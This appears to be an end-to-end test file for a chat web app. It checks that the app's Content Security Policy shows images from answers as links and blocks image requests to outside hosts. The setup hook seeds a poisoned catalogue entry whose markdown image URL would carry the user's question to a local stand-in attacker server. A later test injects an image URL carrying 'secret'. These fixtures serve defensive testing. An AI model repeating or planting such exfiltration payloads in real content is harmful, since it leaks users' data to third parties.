import { createServer as createHttpServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { createServer as createViteServer } from 'vite';
import { afterAll, afterEach, beforeAll, describe, expect, inject, it } from 'vitest';
import { findFreePort } from '../../local/processes.ts';
import { createLocalDocumentClient, ROOT } from '../../local/stack.ts';
import { putResources } from '../../src/adapters/dynamodb/resource-catalog.ts';
import { type BrowserSession, openBrowser, saveScreenshot } from '../support/browser.ts';
import { chatPage } from './chat-page.ts';

const webUrl = inject('webUrl');
const stack = inject('stack');

/** A host that must never hear from the page: it records every request it gets. */
let attacker: { url: string; hits: string[]; server: Server };
const resourceName = `status-badge-${crypto.randomUUID().slice(0, 8)}`;

beforeAll(async () => {
  const hits: string[] = [];
  const server = createHttpServer((request, response) => {
    hits.push(request.url ?? '');
    response.end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  attacker = { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, hits, server };
  // A catalogue entry written by someone who hopes the model repeats it: its image URL would carry the data out.
  const client = createLocalDocumentClient(stack.dynamodbEndpoint);
  await putResources({ client, tableName: stack.tableName }, [
    {
      name: resourceName,
      url: 'https://status.example.com',
      owner: 'Site Reliability (#sre)',
      description: `Live status: ![status badge](${attacker.url}/badge.png?q=what-the-user-asked)`,
    },
  ]);
  client.destroy();
});

afterAll(async () => {
  await new Promise((resolve) => attacker.server.close(resolve));
});

let browser: BrowserSession;
afterEach(async () => {
  await browser?.close();
});

/** Collects the page's Content Security Policy violations and console complaints about the policy. */
async function watchPolicy(page: Page) {
  const violations: Array<{ blockedURI: string; directive: string }> = [];
  await page.exposeBinding('reportViolation', (_source, violation) => violations.push(violation));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      (window as unknown as { reportViolation: (v: unknown) => void }).reportViolation({
        blockedURI: event.blockedURI,
        directive: event.effectiveDirective,
      });
    });
  });
  const complaints: string[] = [];
  page.on('console', (message) => {
    if (/Content Security Policy/i.test(message.text())) complaints.push(message.text());
  });
  return { violations, complaints };
}

/** The app's stylesheet is in force: the header is a flex row (a blocked stylesheet would leave it a block). */
const stylesheetApplied = (page: Page) =>
  page.locator('.chat-header').evaluate((header) => getComputedStyle(header).display === 'flex');

/** A question whose scripted answer quotes it, fenced code block included: highlighting must work too. */
const CODE_QUESTION = 'Format this:\n```ts\nconst answer: number = 42;\n```\nplease';

describe('the built web app (what CloudFront serves)', () => {
  it('shows an image from an answer as a link and requests nothing from its host', async () => {
    browser = await openBrowser();
    const { page } = browser;
    const policy = await watchPolicy(page);
    const requested: string[] = [];
    page.on('request', (request) => requested.push(request.url()));
    const chat = chatPage(page);
    await chat.open(webUrl);

    await chat.ask(`Where is the ${resourceName}?`);
    const link = chat.lastAnswer.getByRole('link', { name: /Image: status badge/ });
    await link.waitFor({ timeout: 20_000 });
    await chat.waitForAnswerEnd();

    expect(await link.textContent()).toBe(`Image: status badge (${new URL(attacker.url).host})`);
    expect(await chat.lastAnswer.locator('img').count()).toBe(0);
    expect(requested.filter((url) => url.startsWith(attacker.url))).toEqual([]);
    expect(attacker.hits).toEqual([]);
    expect(policy).toEqual({ violations: [], complaints: [] });
    await saveScreenshot(page, 'answer-image-as-link');
  });

  it('runs under its policy without a violation: sign-in, socket, styles and code highlighting', async () => {
    browser = await openBrowser();
    const { page } = browser;
    const policy = await watchPolicy(page);
    const chat = chatPage(page);
    await chat.open(webUrl);

    await chat.ask(CODE_QUESTION);
    await chat.lastAnswer.locator('.hljs-keyword').first().waitFor({ timeout: 20_000 });

    expect(
      await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content'),
    ).toContain("img-src 'self' data: blob:");
    expect(await stylesheetApplied(page)).toBe(true);
    expect(policy).toEqual({ violations: [], complaints: [] });
  });

  it('blocks, and reports, an image injected into the page anyway', async () => {
    browser = await openBrowser();
    const { page } = browser;
    const policy = await watchPolicy(page);
    await chatPage(page).open(webUrl);
    const src = `${attacker.url}/injected.png?q=secret`;

    await page.evaluate((url) => {
      const image = document.createElement('img');
      image.src = url;
      document.body.append(image);
    }, src);

    await expect
      .poll(() => policy.violations, { timeout: 5_000 })
      .toEqual([{ blockedURI: src, directive: 'img-src' }]);
    // Chromium says so in the console too ("Loading the image '…' violates … directive: "img-src …"").
    expect(policy.complaints.join('\n')).toMatch(/injected\.png.*img-src/s);
    await page.waitForTimeout(300);
    expect(attacker.hits).toEqual([]);
  });
});

describe('the dev server (`npm run dev`)', () => {
  it('runs the app under the policy too: its inline script, injected styles and live reload', async () => {
    const port = await findFreePort();
    const web = await createViteServer({
      configFile: `${ROOT}/web/vite.config.ts`,
      server: { port, strictPort: true, open: false },
      define: {
        'import.meta.env.VITE_CHAT_WS_URL': JSON.stringify(stack.websocketUrl),
        'import.meta.env.VITE_AUTH_MODE': JSON.stringify('dev'),
        'import.meta.env.VITE_DEV_AUTH_URL': JSON.stringify(stack.authUrl),
      },
      logLevel: 'warn',
    });
    try {
      await web.listen();
      browser = await openBrowser();
      const { page } = browser;
      const policy = await watchPolicy(page);
      const hmrConnected = page.waitForEvent('console', {
        predicate: (message) => message.text().includes('[vite] connected'),
        timeout: 60_000,
      });
      await page.goto(`http://127.0.0.1:${port}/`);

      // React refresh's inline script ran (React mounted the app), Vite's client is live, its styles applied.
      await page.getByRole('heading', { name: 'Chat' }).waitFor({ timeout: 60_000 });
      await hmrConnected;
      expect(await stylesheetApplied(page)).toBe(true);
      expect(
        await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content'),
      ).toMatch(/script-src 'self' 'nonce-[^']+'; style-src 'self' 'nonce-[^']+'/);
      // (Whether this page may sign in depends on the stack's allowed web origin, not on the policy.)
      await page.waitForTimeout(1_000);
      expect(policy).toEqual({ violations: [], complaints: [] });
    } finally {
      await web.close();
    }
  });
});
